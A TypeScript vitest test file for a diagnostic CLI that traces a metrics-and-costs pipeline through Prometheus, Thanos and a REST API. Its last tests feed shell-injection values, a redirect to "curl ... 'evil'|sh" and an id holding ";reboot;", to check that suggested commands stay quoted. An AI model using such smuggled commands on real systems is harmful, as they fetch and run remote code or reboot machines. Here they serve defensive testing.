import { describe, expect, test } from 'vitest';
import { METRICS } from '../../src/doctor/metrics.js';
import { http } from './support/badServers.js';
import { expensesBody } from './support/restApi.js';
import { allFlags, diagnoseChain, type Report, runDoctor } from './support/runDoctor.js';
import { type Chain, PASSED_ON, type Respond, send, startChain } from './support/startChain.js';
import { healthyWorld, NOW } from './support/world.js';

const NOWHERE = 'http://127.0.0.1:9';
const checkOf = ({ hops }: Report, id: string) => hops.flatMap(({ checks }) => checks).find((check) => check.id === id);
const verdicts = ({ hops }: Report) => Object.fromEntries(hops.map(({ id, verdict }) => [id, verdict]));

/** A run on some hops alone, perhaps at other addresses. */
async function examineAt({ urls }: Chain, given: Partial<Record<keyof Chain['urls'], string | null>>): Promise<Report & { code: number }> {
  const only = Object.fromEntries(Object.entries({ ...urls, ...given }).filter(([, url]) => url !== null)) as Chain['urls'];
  const { code, stdout } = await runDoctor([...allFlags({ urls: only }), '--json'], { now: () => NOW });
  return { ...(JSON.parse(stdout) as Report), code };
}

/** Thanos with its own answer to queries of this beginning. */
const atQuery =
  (beginning: RegExp, status: number, body: unknown): Respond =>
  (request, response) =>
    beginning.test(new URL(request.url ?? '', 'http://h').searchParams.get('query') ?? '') ? send(response, status, body) : PASSED_ON;

const REFUSED = { status: 'error', errorType: 'execution', error: 'query processing would load too many samples' };

describe('a port-forward that has ended', () => {
  test('is no broken Thanos where the REST API has today’s CPU and RAM from it', async () => {
    await using chain = await startChain(healthyWorld());
    const report = await examineAt(chain, { thanos: NOWHERE, metroculus: null, exporter: null, prometheus: null });
    expect(report).toMatchObject({ code: 3, headline: null });
    expect(checkOf(report, 'thanos.answers')).toMatchObject({
      verdict: 'not-checked',
      cause: expect.stringMatching(/^Data comes through it \(hop 7/) as string,
    });
  });

  test('is no broken exporter where nothing after it lacks its data', async () => {
    const minutes = {
      status: 'success',
      data: { resultType: 'vector', result: [{ metric: {}, value: [0, String(NOW.getTime() / 1000 - 240)] }] },
    };
    await using chain = await startChain(healthyWorld(), { thanos: atQuery(/^max\(timestamp/, 200, minutes) });
    const report = await examineAt(chain, { exporter: `${NOWHERE}/metrics`, prometheus: null });
    expect(report).toMatchObject({ code: 3, headline: null });
    expect(checkOf(report, 'exporter.answers')).toMatchObject({
      verdict: 'not-checked',
      cause: expect.stringMatching(/^No later hop is known to lack its data.*port-forward/) as string,
    });
  });

  test('is no fault by itself', async () => {
    await using chain = await startChain(healthyWorld());
    const others = { exporter: null, prometheus: null, metroculus: null, restapi: null, write: null };
    const { stdout } = await runDoctor(['--thanos', NOWHERE]);
    expect(stdout).toContain('– 4 Thanos, not checked');
    expect(await examineAt(chain, { ...others, thanos: NOWHERE })).toMatchObject({ code: 3, headline: null });
  });

  test('may be what is broken where later hops lack the data', async () => {
    await using chain = await startChain({ ...healthyWorld(), remoteWrite: 'none' });
    const report = await examineAt(chain, { exporter: `${NOWHERE}/metrics`, prometheus: null });
    expect(report).toMatchObject({ code: 1, headline: { hop: 'exporter' } });
    expect(report.hops[3]).toMatchObject({ followsFrom: 'exporter' });
  });

  test('is not blamed for costs that another fault after it stops', async () => {
    await using chain = await startChain({ ...healthyWorld(), metroculus: 'wrong-secret' });
    const report = await examineAt(chain, { exporter: `${NOWHERE}/metrics`, prometheus: null, thanos: null });
    expect(report).toMatchObject({ code: 1, headline: { hop: 'metroculus' } });
    expect(verdicts(report)).toMatchObject({ exporter: 'not-checked' });
  });
});

describe('a check that is needed and could not be done', () => {
  test('leaves the hop not checked, and says what kept it', async () => {
    await using chain = await startChain(healthyWorld(), { thanos: atQuery(/^(max\(timestamp|count by|avg_over)/, 422, REFUSED) });
    const report = await diagnoseChain(chain);
    expect(report).toMatchObject({ code: 3, verdict: 'not-enough' });
    expect(verdicts(report)).toMatchObject({ thanos: 'not-checked', 'rest-api': 'not-checked', exporter: 'ok', metroculus: 'ok' });
    expect(checkOf(report, 'thanos.age')?.evidence).toContain('the query was refused: query processing would load too many samples');
    expect(JSON.stringify(report)).not.toContain('within a day');
  });

  test('leaves Prometheus so where it refuses what would show the series', async () => {
    await using chain = await startChain(healthyWorld(), { prometheus: atQuery(new RegExp(`^${METRICS.total}$`), 422, REFUSED) });
    const report = await diagnoseChain(chain);
    expect(checkOf(report, 'prometheus.series')).toMatchObject({
      verdict: 'not-checked',
      evidence: 'the query was refused: query processing would load too many samples',
    });
    expect(report).toMatchObject({ code: 3, headline: null });
  });

  test('is said in the line of the hop, before what need not be', async () => {
    await using chain = await startChain(healthyWorld(), { prometheus: atQuery(/^count by/, 422, REFUSED) });
    const { stdout } = await runDoctor(allFlags(chain), { now: () => NOW });
    expect(stdout).toContain('2 – Prometheus    not checked: the query for kube-state-metrics failed');
  });
});

describe('the flat route', () => {
  /** A REST API whose flat route answers so. */
  const flat =
    (respond: Respond): Respond =>
    (request, response) =>
      request.url?.includes('organization_id=') === true ? respond(request, response) : PASSED_ON;
  const { k8s_costs: costs, ...withoutCosts } = expensesBody(healthyWorld(), 0, 1) as {
    k8s_costs: { k8s_cost_breakdown: { cost: number }[] };
  };
  const [cluster] = costs.k8s_cost_breakdown;

  test.each([
    ['fails', 500, 'Error', /^flat route: 500 and the bare text/],
    ['asks for another sign-in', 401, { error: { error_code: 'OE0235', reason: 'Unauthorized' } }, /^flat route: 401 OE0235/],
    ['has no Kubernetes costs', 200, withoutCosts, /^flat route: no k8s_costs/],
    [
      'has other costs',
      200,
      { ...withoutCosts, k8s_costs: { k8s_total_cost: 3, k8s_cost_breakdown: [{ ...cluster, cost: 3 }] } },
      /^flat route: REST API \$3\.00, Thanos \$9\.\d\d/,
    ],
  ])('that %s is suspicious where the other is well', async (_, status, body, evidence) => {
    await using chain = await startChain(healthyWorld(), { restapi: flat((_request, response) => send(response, status, body)) });
    const report = await diagnoseChain(chain);
    expect(report).toMatchObject({ code: 3, headline: { check: 'rest-api.flat', verdict: 'suspicious' } });
    expect(report.headline?.evidence).toMatch(evidence);
    expect(verdicts(report)).toMatchObject({ metroculus: 'ok', page: 'ok' });
  });

  test.each([
    ['404', 404, '404 page not found'],
    ['the user interface, as every path that is none', 200, '<!doctype html><title>CloudTuner</title>'],
  ])('that is %s is not there, and need not be', async (_, status, body) => {
    await using chain = await startChain(healthyWorld(), { restapi: flat((_request, response) => send(response, status, body)) });
    expect(await diagnoseChain(chain)).toMatchObject({ code: 0 });
  });

  test('that does not know "field" is asked again without it', async () => {
    const error = { error_code: 'OE0212', reason: 'Unexpected parameters: field', params: ['field'] };
    const respond: Respond = ({ url }, response) => (url?.includes('field=') === true ? send(response, 400, { error }) : PASSED_ON);
    await using chain = await startChain(healthyWorld(), { restapi: flat(respond) });
    expect(await diagnoseChain(chain)).toMatchObject({ code: 0 });
  });

  test('that lacks what the other lacks is no second fault', async () => {
    await using chain = await startChain({ ...healthyWorld(), restApi: 'no-k8s' });
    const report = await diagnoseChain(chain);
    expect(report.headline).toMatchObject({ check: 'rest-api.cluster' });
    expect(checkOf(report, 'rest-api.flat')).toMatchObject({ verdict: 'broken', followsFrom: 'rest-api' });
  });
});

test('the REST API is timed while nothing else is asked of it', async () => {
  await using chain = await startChain(healthyWorld());
  const beside: string[] = [];
  let isTimed = true;
  chain.override.restapi = (request, response) => {
    if (!isTimed) return PASSED_ON;
    beside.push(request.url ?? '');
    // Long enough for all others to arrive, if they came.
    const answer = () => {
      isTimed = false;
      send(response, 200, expensesBody(chain.world, 0, 1));
    };
    return setTimeout(answer, beside.length === 1 ? 150 : 0);
  };
  await diagnoseChain(chain);
  expect(beside.map((url) => url.replace(/\?.*/, ''))).toEqual([expect.stringMatching(/organizations\/.*\/clean_expenses$/)]);
});

test('a fault of costs is the headline, not one of efficiency before it', async () => {
  await using chain = await startChain({ ...healthyWorld(), kubeStateMetrics: false, metroculus: 'error' });
  const report = await diagnoseChain(chain);
  expect(report.headline).toMatchObject({ hop: 'metroculus', check: 'metroculus.answers' });
  const { stdout } = await runDoctor(allFlags(chain), { now: () => NOW });
  expect(stdout).toMatch(/^✗ 5 Metroculus is where the costs stop\n/);
  expect(stdout).toContain('✗ 2 Prometheus, broken\n  seen   kube-state-metrics is missing.');
});

describe('a command to copy', () => {
  test('runs nothing a server has chosen', async () => {
    await using server = await http((request, response) =>
      request.url === '/metrics'
        ? response.writeHead(302, { location: "/x';curl$IFS-s$IFS'evil'|sh;'" }).end()
        : response.writeHead(200).end('not metrics'),
    );
    const { stdout } = await runDoctor(['--exporter', `${server.origin}/metrics`, '--json']);
    const { headline } = JSON.parse(stdout) as Report;
    expect(wordsOf(headline?.next ?? '')).toEqual(['curl', '-s', '-i', '-m', '20', expect.stringContaining('/x'), '|', 'head', '-20']);
  });

  test('runs nothing that stands in an id either', async () => {
    const id = "x';reboot;'";
    await using chain = await startChain({ ...healthyWorld(), metroculus: 'error', tenant: null });
    const { stdout } = await runDoctor([...allFlags(chain), '--account', id, '--organization', id, '--json']);
    const { hops } = JSON.parse(stdout) as Report;
    const commands = hops.flatMap(({ checks }) => checks.flatMap(({ next }) => next ?? []));
    expect(commands.filter((command) => wordsOf(command).some((word) => /^[;&]|;reboot;$/.test(word) && !word.includes('x')))).toEqual([]);
    expect(commands.some((command) => command.includes('reboot'))).toBe(true);
    expect(commands.flatMap(wordsOf)).not.toContain(';reboot;');
  });
});

/** As a shell cuts a line: single quotes keep everything together. */
function wordsOf(command: string): string[] {
  const pieces = command.match(/(?:'[^']*'|"[^"]*"|\\.|[^\s'";|&])+|[;|&]/g) ?? [];
  return pieces.map((piece) => piece.replace(/^'|'$/g, ''));
}
